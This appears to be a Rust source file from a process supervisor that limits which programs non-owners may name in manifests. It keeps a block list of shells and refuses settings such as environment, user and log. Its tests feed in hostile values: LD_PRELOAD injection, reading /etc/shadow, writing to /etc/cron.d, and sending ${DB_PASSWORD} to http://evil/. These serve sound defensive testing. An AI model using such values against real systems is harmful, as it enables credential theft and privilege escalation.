//! Which programs others than the local owner may name (`security.md` 15).

use std::path::{Path, PathBuf};

use supervisor_api::manifest::{
    ChildManifest, DefaultsManifest, HookManifest, HttpManifest, LogManifest, ReadinessManifest,
    StackManifest,
};

/// Programs that run whatever they are told to; naming one would allow everything.
const SHELLS: &[&str] =
    &["sh", "ash", "bash", "busybox", "csh", "dash", "env", "fish", "ksh", "tcsh", "xargs", "zsh"];

/// The programs that anybody but the local owner may name in `add_child`. Empty: none.
///
/// The local owner, who could start any program without us, is not bound to it.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct AllowedPrograms(Vec<PathBuf>);

/// A program that cannot be allowed.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[non_exhaustive]
pub enum ProgramError {
    /// It is not an absolute path, or not the one that links and dots lead to.
    #[error("allow_programs: '{}' is not a canonical absolute path; write '{}'", .asked.display(), .canonical.display())]
    NotCanonical {
        /// The path as given.
        asked: PathBuf,
        /// Where it leads.
        canonical: PathBuf,
    },
    /// It is not there.
    #[error("allow_programs: '{}' cannot be looked up: {why}; write the absolute path of a program", .asked.display())]
    NotThere {
        /// The path as given.
        asked: PathBuf,
        /// The system's words.
        why: String,
    },
    /// It is a shell, or runs what it is told to.
    #[error("allow_programs: '{}' runs any program it is told to; allow those programs instead", .asked.display())]
    Shell {
        /// The path as given.
        asked: PathBuf,
    },
}

impl AllowedPrograms {
    /// Allows these and no other.
    ///
    /// # Errors
    ///
    /// When one is not a canonical absolute path of a program that is there, or is a shell.
    pub fn new(programs: impl IntoIterator<Item = PathBuf>) -> Result<Self, ProgramError> {
        programs.into_iter().map(checked).collect::<Result<_, _>>().map(Self)
    }

    /// What stands in a manifest, at any depth, that only the local owner may say; as a sentence.
    pub(crate) fn objection(&self, manifest: &ChildManifest) -> Option<String> {
        let name = &manifest.name;
        if let Some(program) = programs(manifest).find(|program| !self.allows(program)) {
            return Some(format!(
                "{name} names the program '{program}', which control.allow_programs does not list by this path; \
                 only the owner of this target may name others"
            ));
        }
        if let Some(key) = surroundings(manifest) {
            return Some(format!("{name} sets {key}, which only the owner of this target may; leave it out"));
        }
        manifest.children.iter().flatten().find_map(|child| self.objection(child))
    }

    /// What is new in a stack, at any depth, that only the local owner may say; as a sentence. A child that stands in
    /// both, word for word and with the same defaults above it, was said by the owner.
    pub(crate) fn objection_to(&self, now: Option<&StackManifest>, new: &StackManifest) -> Option<String> {
        let defaults =
            |stack: &StackManifest| stack.supervisor.as_ref().and_then(|root| root.defaults.clone());
        let same_defaults = now.is_some_and(|now| defaults(now) == defaults(new));
        if !same_defaults && let Some(key) = defaults(new).as_ref().and_then(surroundings_of_all) {
            return Some(format!(
                "supervisor sets {key}, which only the owner of this target may; leave it as it is"
            ));
        }
        let known = |child: &&ChildManifest| {
            same_defaults && now.is_some_and(|now| now.children.iter().any(|known| known == *child))
        };
        new.children.iter().filter(|child| !known(child)).find_map(|child| self.objection(child))
    }

    fn allows(&self, program: &str) -> bool {
        self.0.iter().any(|allowed| allowed == Path::new(program))
    }
}

fn checked(asked: PathBuf) -> Result<PathBuf, ProgramError> {
    let canonical = match asked.canonicalize() {
        Ok(canonical) => canonical,
        Err(error) => return Err(ProgramError::NotThere { asked, why: error.to_string() }),
    };
    // Compared as text: `Path` takes `/bin//ls` and `/bin/ls` for the same.
    if canonical.as_os_str() != asked.as_os_str() {
        return Err(ProgramError::NotCanonical { asked, canonical });
    }
    let is_shell =
        asked.file_name().and_then(|name| name.to_str()).is_some_and(|name| SHELLS.contains(&name));
    if is_shell { Err(ProgramError::Shell { asked }) } else { Ok(asked) }
}

/// Every program that one child names, its own and those that run beside it.
fn programs(manifest: &ChildManifest) -> impl Iterator<Item = &str> {
    let readiness = match &manifest.readiness {
        Some(ReadinessManifest::Probe(probe)) => probe.exec.as_ref(),
        _ => None,
    };
    let health = manifest.health_check.as_ref().and_then(|check| check.exec.as_ref());
    let named = [
        manifest.command.as_deref(),
        readiness.map(Vec::as_slice),
        health.map(Vec::as_slice),
        manifest.pre_start.as_ref().map(HookManifest::command),
        manifest.post_stop.as_ref().map(HookManifest::command),
    ];
    // A program without a word is refused later; here it counts as one that nobody allowed.
    named.into_iter().flatten().map(|words| words.first().map_or("", String::as_str))
}

/// A key by which a program that is allowed could be made to do something else, to write elsewhere, or to tell a secret.
fn surroundings(manifest: &ChildManifest) -> Option<&'static str> {
    // Whoever adds a key has to say here whether it is one of these.
    let ChildManifest {
        environment,
        env_file,
        secrets,
        working_dir,
        user,
        group,
        umask,
        nice,
        sockets,
        stdin,
        no_new_privs,
        log,
        health_check,
        readiness,
        defaults,
        // Programs are looked at by their paths, and children one by one.
        command: _,
        pre_start: _,
        post_stop: _,
        children: _,
        // What it is called and when it runs.
        name: _,
        kind: _,
        factory: _,
        replicas: _,
        profiles: _,
        terminal: _,
        stop_signal: _,
        reload_signal: _,
        escalation: _,
        success_exit_codes: _,
        resource_limits: _,
        role: _,
        schedule: _,
        retry: _,
        primary: _,
        sidecar_config: _,
        criticality: _,
        restart_policy: _,
        backoff: _,
        budget: _,
        dependencies: _,
        restart_dependants: _,
        ready_within_secs: _,
        shutdown: _,
        command_permissions: _,
        significant: _,
        tags: _,
        profile: _,
        strategy: _,
        order: _,
        stop: _,
        on_start_failure: _,
        auto_shutdown: _,
        dynamic: _,
        in_file: _,
    } = manifest;
    let of_readiness = match readiness {
        Some(ReadinessManifest::Probe(probe)) => probe.http.as_ref(),
        _ => None,
    };
    let of_health = health_check.as_ref().and_then(|check| check.http.as_ref());
    let keys = [
        ("environment", !environment.is_empty()),
        ("env_file", env_file.is_some()),
        ("secrets", !secrets.is_empty()),
        ("working_dir", working_dir.is_some()),
        ("user", user.is_some()),
        ("group", group.is_some()),
        ("umask", umask.is_some()),
        ("nice", nice.is_some()),
        ("sockets", !sockets.is_empty()),
        ("stdin", stdin.is_some()),
        ("no_new_privs", no_new_privs.is_some()),
        ("log", log.as_ref().is_some_and(writes)),
        ("readiness.http.headers", of_readiness.is_some_and(tells_a_secret)),
        ("health_check.http.headers", of_health.is_some_and(tells_a_secret)),
    ];
    let own = keys.into_iter().find(|(_, said)| *said).map(|(key, _)| key);
    own.or_else(|| defaults.as_ref().and_then(surroundings_of_all))
}

/// The same of what is said of all children.
fn surroundings_of_all(defaults: &DefaultsManifest) -> Option<&'static str> {
    let DefaultsManifest {
        environment,
        env_file,
        working_dir,
        log,
        backoff: _,
        criticality: _,
        ready_within_secs: _,
        shutdown: _,
        command_permissions: _,
    } = defaults;
    let keys = [
        ("defaults.environment", !environment.is_empty()),
        ("defaults.env_file", env_file.is_some()),
        ("defaults.working_dir", working_dir.is_some()),
        ("defaults.log", log.as_ref().is_some_and(writes)),
    ];
    keys.into_iter().find(|(_, said)| *said).map(|(key, _)| key)
}

/// Whether it names a file, which is written with the rights of the supervisor.
fn writes(log: &LogManifest) -> bool {
    matches!(log, LogManifest::Kept(_))
}

/// Whether a secret of the supervisor's environment would be sent to an address that the same person says.
fn tells_a_secret(http: &HttpManifest) -> bool {
    match http {
        HttpManifest::Request(request) => request.headers.iter().any(|header| header.secret_ref.is_some()),
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn objection(allowed: &AllowedPrograms, json: serde_json::Value) -> Option<String> {
        allowed.objection(&serde_json::from_value(json).unwrap())
    }

    /// A directory with a program, both by their canonical paths.
    fn program(name: &str) -> (tempfile::TempDir, PathBuf) {
        let directory = tempfile::tempdir().unwrap();
        let path = directory.path().canonicalize().unwrap().join(name);
        std::fs::write(&path, "").unwrap();
        (directory, path)
    }

    #[test]
    fn s15_every_place_where_a_program_can_stand_is_looked_at() {
        let (_directory, path) = program("indexer");
        let allowed = AllowedPrograms::new([path.clone()]).unwrap();
        let path = path.to_str().unwrap();
        let good = serde_json::json!({"name": "a", "kind": "process", "command": [path, "--all"],
            "readiness": {"exec": [path]}, "health_check": {"exec": [path, "ping"]},
            "pre_start": [path, "migrate"], "post_stop": {"command": [path]}});
        assert_eq!(objection(&allowed, good), None);
        let task = serde_json::json!({"name": "a", "kind": "async_worker"});
        assert_eq!(objection(&AllowedPrograms::default(), task), None);
        for bad in [
            serde_json::json!({"name": "a", "kind": "process", "command": ["/bin/other"]}),
            serde_json::json!({"name": "a", "kind": "process", "command": []}),
            serde_json::json!({"name": "a", "kind": "process", "command": ["indexer"]}),
            serde_json::json!({"name": "a", "kind": "process", "command": [format!("{path}/../indexer")]}),
            serde_json::json!({"name": "a", "kind": "process", "command": [path], "readiness": {"exec": ["/bin/other"]}}),
            serde_json::json!({"name": "a", "kind": "process", "command": [path], "health_check": {"exec": ["/bin/other"]}}),
            serde_json::json!({"name": "a", "kind": "process", "command": [path], "pre_start": ["/bin/other"]}),
            serde_json::json!({"name": "a", "kind": "process", "command": [path], "post_stop": {"command": ["/bin/other"]}}),
            serde_json::json!({"name": "s", "kind": "supervisor", "children": [
                {"name": "t", "kind": "supervisor", "children": [
                    {"name": "a", "kind": "process", "command": ["/bin/other"]}]}]}),
        ] {
            let said = objection(&allowed, bad.clone()).unwrap_or_else(|| panic!("{bad}"));
            assert!(said.contains("control.allow_programs"), "{said}");
        }
    }

    #[test]
    fn s15_nobody_else_says_in_which_surroundings_an_allowed_program_runs() {
        let (_directory, path) = program("indexer");
        let allowed = AllowedPrograms::new([path.clone()]).unwrap();
        for (key, value) in [
            ("environment", serde_json::json!([{"name": "LD_PRELOAD", "value": "/tmp/x.so"}])),
            ("env_file", serde_json::json!("/tmp/x.env")),
            ("secrets", serde_json::json!([{"name": "key", "key": "KEY"}])),
            ("working_dir", serde_json::json!("/tmp")),
            ("user", serde_json::json!("root")),
            ("group", serde_json::json!(0)),
            ("umask", serde_json::json!("000")),
            ("nice", serde_json::json!(-20)),
            ("sockets", serde_json::json!([{"listen": "0.0.0.0:80"}])),
            ("stdin", serde_json::json!({"file": "/etc/shadow"})),
            ("no_new_privs", serde_json::json!(false)),
            ("log", serde_json::json!({"file": "/etc/cron.d/x"})),
            (
                "health_check",
                serde_json::json!({"http": {"url": "http://evil/",
                    "headers": [{"name": "X", "secret_ref": "${DB_PASSWORD}"}]}}),
            ),
            (
                "readiness",
                serde_json::json!({"http": {"url": "http://evil/",
                    "headers": [{"name": "X", "secret_ref": "${DB_PASSWORD}"}]}}),
            ),
            ("defaults", serde_json::json!({"log": {"dir": "/etc"}})),
            ("defaults", serde_json::json!({"environment": [{"name": "A", "value": "b"}]})),
            ("defaults", serde_json::json!({"env_file": ["/tmp/x.env"]})),
            ("defaults", serde_json::json!({"working_dir": "/tmp"})),
        ] {
            let mut manifest = serde_json::json!({"name": "a", "kind": "process", "command": [path]});
            manifest[key] = value;
            assert!(objection(&allowed, manifest).unwrap().contains(key), "{key}");
        }
    }

    #[test]
    fn s15_what_is_allowed_is_a_canonical_absolute_path_and_no_shell() {
        let (directory, path) = program("indexer");
        let link = directory.path().canonicalize().unwrap().join("link");
        std::os::unix::fs::symlink(&path, &link).unwrap();
        let refused = |path: &Path| AllowedPrograms::new([path.to_owned()]).unwrap_err().to_string();
        for bad in [&link, &path.with_file_name("./indexer"), Path::new("Cargo.toml")] {
            assert!(refused(bad).contains("not a canonical absolute path"), "{}", refused(bad));
        }
        assert!(refused(&path.with_file_name("absent")).contains("cannot be looked up"));
        let (_directory, shell) = program("bash");
        assert!(refused(&shell).contains("runs any program"));
    }
}
